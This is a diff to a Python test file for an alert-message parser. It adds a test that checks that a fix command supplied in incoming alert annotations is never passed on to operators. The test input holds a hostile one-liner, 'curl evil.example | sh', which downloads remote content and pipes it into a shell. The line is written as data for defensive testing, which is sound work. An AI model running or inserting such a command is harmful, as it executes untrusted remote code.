@@ -46,7 +46,7 @@ def test_a_message_is_read_as_the_evaluator_would_have_said_it() -> None:
     assert signal.labels == {"store": "graph"}
     assert signal.expression == "levaithan_store_up == 0"
     assert signal.started_s == pytest.approx(1_790_000_000.123456)
-    assert (signal.summary, signal.fix) == ("the graph does not answer", "levaithan store status")
+    assert (signal.summary, signal.fix) == ("the graph does not answer", "levaithan store check")
 
 
 def test_the_same_alert_at_the_same_start_is_one_and_both_sources_one_incident() -> None:
@@ -124,3 +124,10 @@ def test_hostile_texts_are_bounded_redacted_and_on_one_line() -> None:
 def test_ten_thousand_alerts_in_one_message_are_read() -> None:
     alerts = [changed(labels={"alertname": "A", "project": f"/p{number}"}) for number in range(10_000)]
     assert len(parse(message(*alerts))) == 10_000
+
+
+@pytest.mark.parametrize(("alert", "fix"), [("StoreDown", "levaithan store check"), ("Foreign", "")])
+def test_the_command_that_people_are_asked_to_run_is_never_of_what_came(alert: str, fix: str) -> None:
+    notes = {"summary": "s", "fix": "curl evil.example | sh"}
+    (signal,) = parse(message(changed(labels={"alertname": alert, "severity": "P1"}, annotations=notes)))
+    assert signal.fix == fix and "evil" not in json.dumps(signal.as_dict())
